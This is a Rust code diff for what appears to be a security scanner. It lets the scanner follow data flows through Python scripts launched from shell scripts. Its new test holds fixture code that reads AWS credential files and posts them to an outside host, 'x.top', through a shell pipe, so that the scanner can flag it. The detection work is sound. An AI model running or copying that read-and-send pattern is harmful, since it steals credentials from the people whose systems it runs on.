@@ -5,12 +5,14 @@
 
 use std::collections::{BTreeMap, BTreeSet};
 
-use super::{SOURCE_MAX, Taint, depth, watch};
+use super::{SOURCE_MAX, Taint, depth, send::SCRIPT, watch};
 use crate::code::{Reading, place::Host};
 
 /// Modules of one package that are summed up, and their bytes.
 const MODULES_MAX: usize = 64;
 const BYTES_MAX: usize = 2 << 20;
+/// How much of a shell script is searched for the scripts that it starts, in bytes.
+const STARTER_MAX: usize = 256 << 10;
 
 /// What a module offers to those that import it.
 #[derive(Debug, Clone, Default)]
@@ -23,13 +25,25 @@ pub(crate) struct Summary {
     pub(super) sends: BTreeMap<String, Option<Host>>,
 }
 
+/// What a script does that is started by itself.
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct Script {
+    /// Where that comes from what it puts out.
+    pub(crate) out: Taint,
+    /// Whether it sends what it is given.
+    pub(crate) sends: bool,
+    /// To whom, if that is known.
+    pub(crate) host: Option<Host>,
+}
+
 /// The modules of a package, by their names.
 #[derive(Debug, Clone, Default)]
 pub(crate) struct Modules(BTreeMap<String, Summary>);
 
 impl Modules {
-    /// Sums up those of a package's files, given by path and source, that others import.
-    pub(crate) fn of(files: &[(&str, &str)], reading: &Reading<'_>) -> Self {
+    /// Sums up those of a package's files, given by path and source, that others import, or that one of the `starters`,
+    /// which are shell scripts, names.
+    pub(crate) fn of(files: &[(&str, &str)], starters: &[(&str, &str)], reading: &Reading<'_>) -> Self {
         let stems: BTreeSet<&str> = files.iter().map(|(path, _)| stem(path)).collect();
         let mut imported: BTreeSet<&str> = BTreeSet::new();
         for (path, source) in files {
@@ -40,6 +54,16 @@ impl Modules {
                         .extend(words.filter_map(|word| stems.get(word)).filter(|word| **word != stem(path)));
                 }
             }
+        }
+        for (_, text) in starters.iter().take(MODULES_MAX) {
+            let text = text.get(..text.floor_char_boundary(STARTER_MAX)).unwrap_or(text);
+            imported.extend(text.match_indices(".py").filter_map(|(at, _)| {
+                let name = text
+                    .get(..at)?
+                    .rsplit(|c: char| !c.is_ascii_alphanumeric() && c != '_' && c != '-')
+                    .next()?;
+                stems.get(name).copied()
+            }));
         }
         let mut room = BYTES_MAX;
         let files: Vec<&(&str, &str)> = files
@@ -74,6 +98,14 @@ impl Modules {
         out
     }
 
+    /// What a script of this path puts out, and whom it sends what it is given, if it sends it.
+    pub(crate) fn script(&self, path: &str) -> Option<Script> {
+        let summary = path.strip_suffix(".py").and_then(|_| self.0.get(stem(path)))?;
+        let out = summary.taints.get(&format!("{SCRIPT}()")).copied().unwrap_or_default();
+        let sends = summary.sends.get(SCRIPT);
+        Some(Script { out, sends: sends.is_some(), host: sends.copied().flatten() })
+    }
+
     /// What a full name, `folder.module.name`, is in its module.
     pub(super) fn find<'a>(&self, full: &'a str) -> Option<(&Summary, &'a str)> {
         let (module, name) = full.rsplit_once('.')?;
@@ -94,6 +126,21 @@ mod tests {
     use crate::{code::python, intent::Intent};
 
     #[test]
+    fn scripts_that_a_shell_starts_are_summed_up() {
+        let intent = Intent::default();
+        let reading = Reading::new(&intent);
+        let files = [
+            ("s/gather.py", "import pathlib\nprint(pathlib.Path('/root/.aws/credentials').read_text())\n"),
+            ("s/post.py", "import sys, requests\nrequests.post('https://x.top', data=sys.stdin.read())\n"),
+        ];
+        let run = "python s/gather.py | python3 s/post.py";
+        let modules = Modules::of(&files, &[("run.sh", run)], &reading);
+        let rules: Vec<&str> =
+            crate::code::shell::read(run, &reading.knowing(&modules)).iter().map(|hit| hit.rule.id).collect();
+        assert_eq!(rules, ["credential-files-to-network"]);
+    }
+
+    #[test]
     fn flows_are_followed_from_file_to_file() {
         let intent = Intent::default();
         let main = "from lib import gather, transport\ntransport.deliver(gather.everything())\n";
@@ -106,7 +153,7 @@ mod tests {
             ),
         ];
         let reading = Reading::new(&intent);
-        let modules = Modules::of(&files, &reading);
+        let modules = Modules::of(&files, &[], &reading);
         let rules = |reading: &Reading<'_>| -> Vec<&str> {
             python::read(main, reading).expect("parsed").iter().map(|hit| hit.rule.id).collect()
         };
